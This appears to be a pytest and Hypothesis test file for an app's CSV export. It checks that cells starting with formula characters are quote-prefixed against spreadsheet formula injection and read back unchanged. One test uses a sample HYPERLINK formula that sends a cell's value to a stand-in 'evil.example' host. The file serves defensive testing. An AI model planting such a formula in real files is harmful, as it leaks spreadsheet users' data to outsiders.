"""Cells Tessera writes to CSV are never run by a spreadsheet, and read back as they were."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.loyalty.csv_cells import FORMULA_STARTS, Writer, read_cell, write_cell
from app.loyalty.members_csv import records

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=30)
# Text that starts the way a formula or an already marked cell does, far more often than at random.
RISKY_TEXT = st.builds(lambda quotes, first, rest: quotes + first + rest,
                       st.sampled_from(["", "'", "''", "'''"]), st.sampled_from([*DANGEROUS, "'", ";", ""]), ANY_TEXT)
CELLS = st.lists(st.one_of(ANY_TEXT, RISKY_TEXT), min_size=1, max_size=6)
PROPERTY = settings(max_examples=300, deadline=None, derandomize=True)


def written(rows: list[list[str]], lineterminator: str = "\r\n") -> str:
    buffer = io.StringIO(newline="")
    writer = Writer(buffer, lineterminator=lineterminator)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue()


def test_the_dangerous_characters_are_the_ones_owasp_lists() -> None:
    assert sorted(FORMULA_STARTS) == sorted(DANGEROUS)


@pytest.mark.parametrize("first", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_a_cell_starting_like_a_formula_gets_a_quote_in_front(first: str) -> None:
    text = f'{first}HYPERLINK("http://evil.example/?"&B2)'
    output = written([[text, "ok"]])
    assert output == f'"\'{first}HYPERLINK(""http://evil.example/?""&B2)","ok"\r\n'
    assert [values for _, values in records(io.StringIO(output, newline=""))] == [[text, "ok"]]


@pytest.mark.parametrize(("text", "cell"), [
    ("-20", "'-20"),
    ("+39 333 1234567", "'+39 333 1234567"),
    ("'=1+1", "''=1+1"),  # a quote the text had is kept: one more goes in front, one comes off
    ("O'Neil", "O'Neil"),
    ("'plain", "'plain"),
    ("20", "20"),
    ("Ada; =1+1", "Ada; =1+1"),
    ("", ""),
])
def test_cells_are_marked_only_when_a_spreadsheet_would_run_them(text: str, cell: str) -> None:
    assert write_cell(text) == cell
    assert read_cell(cell) == text


def test_every_cell_is_quoted_so_a_separator_inside_stays_inside() -> None:
    assert written([["Ada;=1+1", "b,c", ""]], "\n") == '"Ada;=1+1","b,c",""\n'


def test_a_hand_made_file_reads_marked_cells_without_their_quote() -> None:
    text = "name,phone\n'=Ada,'+39 333 1234567\n'Bea,''-3\n=Cid,+39 06 1234567\n"
    assert [values for _, values in records(io.StringIO(text, newline=""))] == [
        ["name", "phone"], ["=Ada", "+39 333 1234567"], ["'Bea", "'-3"], ["=Cid", "+39 06 1234567"]]


@PROPERTY
@given(rows=st.lists(CELLS, min_size=1, max_size=5))
def test_any_text_written_reads_back_unchanged(rows: list[list[str]]) -> None:
    rows = [[*row, "end"] for row in rows]  # never a blank record, which reading passes over
    for lineterminator in ("\r\n", "\n"):
        read = [values for _, values in records(io.StringIO(written(rows, lineterminator), newline=""))]
        assert read == rows


@PROPERTY
@given(rows=st.lists(CELLS, min_size=1, max_size=5))
def test_no_written_cell_starts_like_a_formula(rows: list[list[str]]) -> None:
    output = written(rows)
    read = list(csv.reader(io.StringIO(output, newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert [cell for row in read for cell in row if cell[:1] in DANGEROUS] == []
    for line, row in zip(read, rows, strict=True):
        assert all(cell in (text, "'" + text) for cell, text in zip(line, row, strict=True))


def test_every_csv_the_app_writes_goes_through_the_writer() -> None:
    """A new export written with csv.writer directly would skip the marking."""
    app = Path(__file__).resolve().parents[2] / "app"
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    writers = sorted(str(p.relative_to(app)) for p in app.rglob("*.py") if direct.search(p.read_text("utf-8")))
    assert writers == ["loyalty/csv_cells.py"]


def test_a_points_cell_of_thousands_of_digits_is_a_refused_row_not_a_crash() -> None:
    from app.loyalty.members_csv import BadRow, _points

    with pytest.raises(BadRow, match="not a whole number"):
        _points("9" * 5000)  # int() refuses strings past 4300 digits with a ValueError
